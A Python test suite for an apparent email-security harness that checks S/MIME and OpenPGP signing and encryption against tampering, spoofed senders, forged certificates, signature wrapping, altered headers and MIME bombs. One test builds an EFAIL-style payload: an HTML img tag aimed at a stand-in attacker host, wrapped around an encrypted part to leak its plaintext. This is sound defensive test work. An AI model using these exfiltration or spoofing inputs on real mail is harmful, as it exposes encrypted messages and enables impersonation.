"""What an attacker does to signed and sealed mail is told, and what was sealed is never read out."""

import datetime as dt
import re
from base64 import encodebytes
from dataclasses import replace

import pytest
from cryptography.hazmat.primitives.asymmetric import rsa
from hypothesis import given
from hypothesis import strategies as st
from pysequoia import Cert, Tsk

from harness.sealed import Coverage, Keys, Note, Problem, Scheme, Standing, Wish, seal
from harness.sealed.certificates import for_signing, problems_of
from harness.sealed.keys import Identity
from harness.sealed.make_keys import issue, make_authority
from harness.sealed.mime import Entity
from harness.sealed.opening import MAX_LAYERS
from harness.sealed.openpgp import verify_openpgp
from harness.sealed.smime_seal import open_smime
from harness.sealed.smime_verify import verify_smime

SCHEMES = list(Scheme)
ALICE = "alice@example.test"


def problems(world, message: bytes, keys: Keys | None = None, at: dt.datetime | None = None) -> set[Problem]:
    seal = world.open(message, keys, at).seal
    assert seal.signatures
    return {problem for each in seal.signatures for problem in each.problems}


def signed_by(world, identity: Identity, *, sender: str = ALICE, trusted: Identity | None = None):
    """Alice's message, signed with another S/MIME key of hers; and keys that know only who is `trusted`."""
    theirs = Keys(certificates=(identity.certificate,), private_keys=(identity.key,))
    signing = type(world)(**{**vars(world), "keys": theirs})
    authorities = (trusted.certificate,) if trusted else ()
    return signing.signed(Scheme.SMIME), Keys(authorities=authorities)


# Altered text


@pytest.fixture(scope="module")
def signed(world) -> dict[Scheme, bytes]:
    return {scheme: world.signed(scheme) for scheme in SCHEMES}


@pytest.mark.parametrize("scheme", SCHEMES)
@given(data=st.data())
def test_no_octet_of_a_signed_part_can_be_altered(world, signed, scheme: Scheme, data) -> None:
    message = signed[scheme]
    part, _signature = Entity.read(message).parts()
    start = message.index(part)
    place = data.draw(st.integers(start, start + len(part) - 1))
    octet = data.draw(st.integers(0, 255).filter(lambda value: value != message[place]))

    altered = message[:place] + bytes([octet]) + message[place + 1 :]

    assert world.open(altered).seal.standing is Standing.BAD


@pytest.mark.parametrize("scheme", SCHEMES)
@given(data=st.data())
def test_nothing_can_be_put_into_a_signed_part_or_taken_out(world, signed, scheme: Scheme, data) -> None:
    message = signed[scheme]
    part, _signature = Entity.read(message).parts()
    start = message.index(part)
    place = data.draw(st.integers(0, len(part)))
    more = data.draw(st.binary(min_size=1, max_size=5))
    less = data.draw(st.integers(0, min(5, len(part) - place)))
    other = part[:place] + more + part[place + less :]
    if other == part:
        return

    altered = message[:start] + other + message[start + len(part) :]

    assert world.open(altered).seal.standing is Standing.BAD


@pytest.mark.parametrize("scheme", SCHEMES)
@given(data=st.data())
def test_a_sealed_message_that_was_altered_stays_closed_or_says_what_was_sealed(
    world, scheme: Scheme, data
) -> None:
    message = world.encrypted(scheme)
    start = (
        message.index(b"\r\n\r\n", message.index(b"octet-stream" if scheme is Scheme.OPENPGP else b"p7m")) + 4
    )
    place = data.draw(st.integers(start, len(message) - 60))
    octet = data.draw(st.integers(32, 126).filter(lambda value: value != message[place]))

    opened = world.open(message[:place] + bytes([octet]) + message[place + 1 :])

    # An octet beside the base64 changes nothing of it; any other does.
    if opened.seal.standing is Standing.OPENED:
        assert Entity.read(opened.content).body == b"We meet at noon.\r\n"
    else:
        assert opened.seal.standing in {Standing.CLOSED, Standing.BAD}
        assert b"noon" not in opened.content


@given(octets=st.binary(max_size=300))
@pytest.mark.parametrize(
    "kind",
    [
        b"application/pkcs7-mime; smime-type=enveloped-data",
        b"application/pkcs7-mime; smime-type=signed-data",
        b'multipart/encrypted; protocol="application/pgp-encrypted"; boundary=b',
        b'multipart/signed; protocol="application/pgp-signature"; boundary=b',
        b'multipart/signed; protocol="application/pkcs7-signature"; boundary=b',
    ],
)
def test_rubbish_is_never_good(world, kind: bytes, octets: bytes) -> None:
    types = re.findall(rb'protocol="([^"]+)"', kind)
    body = encodebytes(octets)
    if types:
        body = b"--b\r\nContent-Type: %s\r\n\r\nVersion: 1\r\n--b\r\n" % types[0]
        body += b"Content-Type: %s\r\nContent-Transfer-Encoding: base64\r\n\r\n" % types[0]
        body += encodebytes(octets) + b"\r\n--b--\r\n"
    message = b"From: alice@example.test\r\nContent-Type: %s\r\n" % kind
    message += (b"" if types else b"Content-Transfer-Encoding: base64\r\n") + b"\r\n" + body

    assert world.open(message).seal.standing in {Standing.BAD, Standing.CLOSED}


@pytest.fixture(scope="module")
def control(world, signed) -> dict[str, tuple[bytes, bytes]]:
    """What is signed, and its signature without transfer encoding, by scheme; and an envelope."""
    found = {}
    for scheme, message in signed.items():
        part, signature = Entity.read(message).parts()
        found[scheme.name] = (part, Entity.read(signature).decoded())
    return found | {"ENVELOPE": (b"", Entity.read(world.encrypted(Scheme.SMIME)).decoded())}


@pytest.mark.parametrize("kind", ["SMIME", "OPENPGP", "ENVELOPE"])
@given(data=st.data())
def test_damage_in_a_signature_or_an_envelope_is_told_and_never_an_error(
    world, control, kind: str, data
) -> None:
    part, octets = control[kind]
    place = data.draw(st.integers(0, len(octets) - 1))
    more = data.draw(st.binary(max_size=3))
    less = data.draw(st.integers(0, 3))
    damaged = octets[:place] + more + octets[place + less :]

    if kind == "ENVELOPE":
        content, encryption = open_smime(damaged, world.keys.identities)
        assert (content is not None) == encryption.opened
    else:
        verify = verify_smime if kind == "SMIME" else verify_openpgp
        assert verify(damaged, part, world.keys, world.at)
        assert not any(each.good for each in verify(damaged, part + b"more", world.keys, world.at))


# The signer


@pytest.mark.parametrize("scheme", SCHEMES)
@pytest.mark.parametrize(
    "field",
    [
        b"From: Mallory <mallory@example.org>",
        b"From: alice@example.test <mallory@example.org>",
        b'From: "Alice <alice@example.test>" <mallory@example.org>',
        b"From: alice@example.test, mallory@example.org",
        b"From: alice@example.test\r\nFrom: mallory@example.org",
        b"From: mallory@example.org\r\nFrom: alice@example.test",
        b"From: mallory@example.org\r\nSender: alice@example.test",
        b"From: alice@example.test(",
        b"X-From: alice@example.test",
    ],
)
def test_a_sender_whom_the_certificate_does_not_name_is_told(world, scheme: Scheme, field: bytes) -> None:
    entity = b"Content-Type: text/plain\r\n\r\nPay Mallory.\r\n"
    message = world.signed(scheme, b"X: y\r\n" + entity).replace(b"X: y", field)

    opened = world.open(message)

    assert opened.seal.standing is Standing.BAD
    assert opened.seal.signatures[0].problems == (Problem.WRONG_SENDER,)


def test_the_case_of_an_address_is_no_matter(world) -> None:
    message = b"From: ALICE@Example.TEST\r\nContent-Type: text/plain\r\n\r\nx\r\n"

    assert world.open(world.signed(Scheme.SMIME, message)).seal.standing is Standing.GOOD


def test_a_certificate_that_nobody_vouches_for_is_told(world) -> None:
    stranger = make_authority("a stranger", world.at)
    message, keys = signed_by(world, issue(stranger, ALICE, world.at), trusted=world.authority)

    assert problems(world, message, keys) == {Problem.UNTRUSTED}
    assert world.open(message, keys).seal.standing is Standing.UNCHECKED
    assert problems(world, message, Keys()) == {Problem.UNTRUSTED}


def test_an_authority_that_has_the_name_of_ours_and_another_key_is_a_stranger(world) -> None:
    stranger = make_authority("an authority", world.at)
    message, keys = signed_by(world, issue(stranger, ALICE, world.at), trusted=world.authority)

    assert problems(world, message, keys) == {Problem.UNTRUSTED}


def test_a_person_vouches_for_nobody(world) -> None:
    forged = issue(Identity(world.bob.certificate, world.bob.key), ALICE, world.at)
    message, keys = signed_by(world, forged, trusted=world.authority)
    keys = replace(keys, certificates=(world.bob.certificate,))

    assert problems(world, message, keys) == {Problem.UNTRUSTED}


@pytest.mark.parametrize(
    ("days", "problem"), [(800, Problem.EXPIRED), (-1, Problem.NOT_YET_VALID), (700, None)]
)
def test_a_certificate_counts_in_its_time(world, signed, days: int, problem: Problem | None) -> None:
    at = world.at + dt.timedelta(days=days)

    found = problems(world, signed[Scheme.SMIME], at=at)

    assert found == ({problem} if problem else set())


def test_nobody_signs_or_is_sealed_for_with_a_certificate_that_has_expired(world) -> None:
    later = world.at + dt.timedelta(days=800)

    assert world.keys.identity_of(ALICE, later) is None
    assert world.keys.certificate_of(ALICE, later) is None


def test_a_short_key_is_told(world) -> None:
    key = rsa.generate_private_key(65537, 1024)  # noqa: S505 (to be refused)
    short = issue(world.authority, ALICE, world.at, key=key)
    message, keys = signed_by(world, short, trusted=world.authority)

    assert Problem.WEAK_KEY in problems(world, message, keys)


def test_a_key_for_other_things_does_not_sign_mail(world) -> None:
    message, keys = signed_by(world, world.alice, trusted=world.authority)
    certificate = world.authority.certificate
    assert not for_signing(certificate)
    assert Problem.WRONG_USE in problems_of(certificate, world.at)
    assert problems(world, message, keys) == set()


def test_an_openpgp_key_that_is_not_here_is_told(world, signed) -> None:
    keys = replace(world.keys, openpgp=())

    assert problems(world, signed[Scheme.OPENPGP], keys) == {Problem.NO_CERTIFICATE}
    assert world.open(signed[Scheme.OPENPGP], keys).seal.standing is Standing.UNCHECKED


def test_an_openpgp_key_that_was_revoked_or_has_expired_is_told(world, signed) -> None:
    certificate = world.alice_pgp.extract_certificate()
    certifier = world.alice_pgp.certifier()
    revoked = Cert.from_bytes(bytes(certificate) + bytes(certificate.revoke(certifier)))
    ending = certificate.set_expiration(world.at + dt.timedelta(days=1), certifier)
    message = signed[Scheme.OPENPGP]

    assert problems(world, message, replace(world.keys, openpgp=(revoked,))) == {Problem.REVOKED}
    keys = replace(world.keys, openpgp=(ending,))
    assert problems(world, message, keys, world.at + dt.timedelta(days=2)) == {Problem.EXPIRED}
    assert keys.openpgp_of(ALICE, world.at) is not None
    assert keys.openpgp_of(ALICE, world.at + dt.timedelta(days=2)) is None
    assert replace(keys, openpgp=(revoked,)).openpgp_of(ALICE, world.at) is None


def test_somebody_elses_openpgp_key_for_an_address_does_not_pass(world) -> None:
    """Mallory's key is here as his own; what he signs as Alice is not hers."""
    mallory = Tsk.generate("<mallory@example.org>")
    keys = replace(world.keys, secrets=(mallory,), openpgp=(mallory.extract_certificate(),))
    message = seal(
        b"From: mallory@example.org\r\nContent-Type: text/plain\r\n\r\nx\r\n",
        Wish(Scheme.OPENPGP, sign=True, encrypt=False), keys,
        sender="mallory@example.org", recipients=[], at=world.at,
    )  # fmt: skip

    forged = message.replace(b"From: mallory@example.org", b"From: alice@example.test", 1)

    assert (
        Problem.WRONG_SENDER in problems(world, forged, keys)
        or Note.FIELD_CHANGED in world.open(forged, keys).seal.notes
    )
    assert world.open(forged, keys).seal.standing is Standing.BAD


# Parts put around


def around(inner: bytes, before: bytes = b"", behind: bytes = b"") -> bytes:
    """A message with a sealed entity between two parts of an attacker's."""
    entity = b"".join(octets for name, octets in Entity.read(inner).fields if name.startswith("content-"))
    return (
        b"From: alice@example.test\r\nContent-Type: multipart/mixed; boundary=around\r\n\r\n"
        b"--around\r\nContent-Type: text/html\r\n\r\n" + before + b"\r\n--around\r\n" + entity + b"\r\n"
        + Entity.read(inner).body + b"\r\n--around\r\nContent-Type: text/html\r\n\r\n" + behind
        + b"\r\n--around--\r\n"
    )  # fmt: skip


@pytest.mark.parametrize("scheme", SCHEMES)
@pytest.mark.parametrize("sign", [True, False])
def test_a_sealed_part_among_others_is_not_opened(world, scheme: Scheme, sign: bool) -> None:
    """EFAIL's direct exfiltration: an image's address that begins before the sealed part and ends behind it."""
    sealed = world.seal(Wish(scheme, sign=sign, encrypt=True))
    message = around(sealed, b'<img src="http://mallory.example.org/', b'">')

    opened = world.open(message)

    assert opened.seal.standing is Standing.CLOSED
    assert Note.SEALED_PART in opened.seal.notes
    assert opened.content == message


@pytest.mark.parametrize("scheme", SCHEMES)
def test_a_signed_part_among_others_does_not_vouch_for_them(world, signed, scheme: Scheme) -> None:
    opened = world.open(around(signed[scheme], b"Pay Mallory."))

    assert opened.seal.standing is Standing.BAD
    (signature,) = opened.seal.signatures
    assert signature.coverage is Coverage.PART
    assert signature.problems == (Problem.PART_ONLY,)
    assert Note.SIGNED_PART in opened.seal.notes


@pytest.mark.parametrize("scheme", SCHEMES)
def test_what_stands_beside_the_signed_part_is_not_shown(world, signed, scheme: Scheme) -> None:
    boundary = Entity.read(signed[scheme]).parameter("boundary").encode()
    head, tail = signed[scheme].split(b"--" + boundary, 1)
    message = head + b"Pay Mallory before.\r\n--" + boundary + tail + b"Pay Mallory behind.\r\n"

    opened = world.open(message)

    assert opened.seal.standing is Standing.GOOD
    assert b"Mallory" not in opened.content


@pytest.mark.parametrize("scheme", SCHEMES)
def test_a_third_part_breaks_the_rules(world, signed, scheme: Scheme) -> None:
    boundary = Entity.read(signed[scheme]).parameter("boundary").encode()
    more = b"\r\n--%s\r\nContent-Type: text/plain\r\n\r\nPay Mallory.\r\n--%s--\r\n" % (boundary, boundary)
    message = signed[scheme].replace(b"\r\n--%s--\r\n" % boundary, more)

    opened = world.open(message)

    assert opened.seal.standing is Standing.BAD
    assert Note.BAD_STRUCTURE in opened.seal.notes
    assert opened.seal.signatures == ()


@pytest.mark.parametrize("scheme", SCHEMES)
@pytest.mark.parametrize(
    "more", [b"Content-Type: text/html\r\n", b"Content-Transfer-Encoding: base64\r\n", b"no field\r\n"]
)
def test_a_header_that_can_be_read_in_two_ways_is_refused(world, signed, scheme: Scheme, more: bytes) -> None:
    for message in (more + signed[scheme], signed[scheme].replace(b"\r\n\r\n", b"\r\n" + more + b"\r\n", 1)):
        opened = world.open(message)
        assert opened.seal.standing in {Standing.BAD, Standing.GOOD}
        assert (opened.seal.standing is Standing.GOOD) == more.startswith(b"Content-Transfer")


def test_a_signature_of_another_kind_than_announced_is_refused(world, signed) -> None:
    message = signed[Scheme.SMIME].replace(
        b'protocol="application/pkcs7-signature"', b'protocol="application/pgp-signature"'
    )

    assert world.open(message).seal.standing is Standing.BAD


def test_a_signature_around_the_closed_envelope_is_not_one_of_the_text(world) -> None:
    """Mallory takes what was sealed for Bob and signs it as his own: he has never seen the text."""
    message = world.signed(Scheme.SMIME, world.encrypted(Scheme.SMIME))

    opened = world.open(message)

    assert opened.seal.decrypted is True
    assert opened.seal.standing is Standing.BAD
    assert opened.seal.signatures[0].coverage is Coverage.ENVELOPE
    assert opened.seal.signatures[0].problems == (Problem.OUTSIDE,)


@pytest.mark.parametrize("scheme", SCHEMES)
def test_who_signed_the_text_may_sign_the_envelope_too(world, scheme: Scheme) -> None:
    thrice = world.signed(scheme, world.seal(Wish(scheme, sign=True, encrypt=True)))

    opened = world.open(thrice)

    assert opened.seal.standing is Standing.GOOD
    assert [each.coverage for each in opened.seal.signatures] == [Coverage.ENVELOPE, Coverage.WHOLE]


def test_one_bad_signature_among_good_ones_outweighs_them(world, signed, openssl) -> None:
    entity = b"Content-Type: text/plain\r\n\r\nnoon\r\n"
    both = openssl(
        "cms", "-sign", "-crlfeol", "-signer", world.directory / "alice.pem", "-signer",
        world.directory / "bob.pem", stdin=entity,
    )  # fmt: skip
    opened = world.open(b"From: alice@example.test\r\n" + both)

    assert [each.problems for each in opened.seal.signatures].count(()) == 1
    assert opened.seal.standing is Standing.BAD
    assert {problem for each in opened.seal.signatures for problem in each.problems} == {Problem.WRONG_SENDER}


# Header fields


@pytest.mark.parametrize("scheme", SCHEMES)
@pytest.mark.parametrize("encrypt", [True, False])
@pytest.mark.parametrize(
    ("old", "new"),
    [
        (b"To: bob@example.test", b"To: carol@example.test"),
        (b"Date: Tue, 24 Nov 2026", b"Date: Wed, 25 Nov 2026"),
        (b"To: bob@example.test", b"To: bob@example.test\r\nCc: mallory@example.org"),
        (b"To: bob@example.test", b"To: bob@example.test\r\nReply-To: mallory@example.org"),
        (b"From: Alice", b"From: Alicia"),
    ],
)
def test_a_field_that_was_changed_outside_is_told_and_the_signed_one_shown(
    world, scheme: Scheme, encrypt: bool, old: bytes, new: bytes
) -> None:
    message = world.seal(Wish(scheme, sign=True, encrypt=encrypt)).replace(old, new, 1)

    opened = world.open(message)

    assert Note.FIELD_CHANGED in opened.seal.notes
    assert opened.seal.standing is Standing.BAD
    assert old.split(b"\r\n")[0] in opened.content


@pytest.mark.parametrize("scheme", SCHEMES)
def test_a_subject_that_was_changed_is_told(world, signed, scheme: Scheme) -> None:
    message = signed[scheme].replace(b"Subject: the plan", b"Subject: pay Mallory", 1)

    opened = world.open(message)

    assert opened.seal.standing is Standing.BAD
    assert b"Subject: the plan\r\n" in opened.content
    assert b"Mallory" not in opened.content


def test_a_relay_may_fold_a_field_anew(world, signed) -> None:
    message = signed[Scheme.SMIME].replace(b"Subject: the plan", b"Subject: the\r\n plan", 1)

    assert world.open(message).seal.standing is Standing.GOOD


@pytest.mark.parametrize("name", [b"Subject", b"To", b"Date"])
def test_a_field_that_is_there_twice_is_told(world, signed, name: bytes) -> None:
    opened = world.open(name + b": other\r\n" + signed[Scheme.SMIME])

    assert Note.FIELD_TWICE in opened.seal.notes
    assert opened.seal.standing is Standing.BAD


def test_fields_that_are_not_signed_are_told(world, openssl) -> None:
    made = openssl(
        "cms", "-sign", "-crlfeol", "-signer", world.directory / "alice.pem",
        stdin=b"Content-Type: text/plain\r\n\r\nnoon\r\n",
    )  # fmt: skip

    opened = world.open(b"From: alice@example.test\r\nSubject: whatever\r\n" + made)

    assert opened.seal.standing is Standing.GOOD
    assert opened.seal.notes == (Note.FIELDS_OPEN,)


# Bombs


def test_more_layers_than_are_opened_is_told(world) -> None:
    message = world.signed(Scheme.SMIME)
    for _ in range(MAX_LAYERS):
        message = world.signed(Scheme.SMIME, message)

    opened = world.open(message)

    assert Note.TOO_DEEP in opened.seal.notes
    assert opened.seal.standing is Standing.BAD
    assert len(opened.seal.signatures) == MAX_LAYERS


def test_thousands_of_nested_parts_are_looked_at_as_far_as_they_are_worth(world, signed) -> None:
    message = b"From: alice@example.test\r\n"
    for number in range(2000):
        message += b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (number, number)
    message += signed[Scheme.SMIME] + b"".join(
        b"\r\n--b%d--\r\n" % number for number in reversed(range(2000))
    )

    opened = world.open(message)

    assert opened.seal.standing in {Standing.NONE, Standing.BAD}
    assert opened.content == message


def test_thousands_of_parts_side_by_side_are_not_opened(world) -> None:
    parts = b"--b\r\nContent-Type: application/pkcs7-mime\r\n\r\nAA==\r\n" * 5000
    message = (
        b"From: a@example.test\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n" + parts + b"--b--\r\n"
    )

    assert world.open(message).seal.standing is not Standing.GOOD


def test_a_message_too_large_to_open_is_told(world, signed, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("harness.sealed.opening.MAX_MESSAGE_OCTETS", 400)

    assert world.open(signed[Scheme.SMIME]).seal.notes == (Note.TOO_LARGE,)
    assert world.open(b"X: y\r\n" * 100).seal.notes == ()
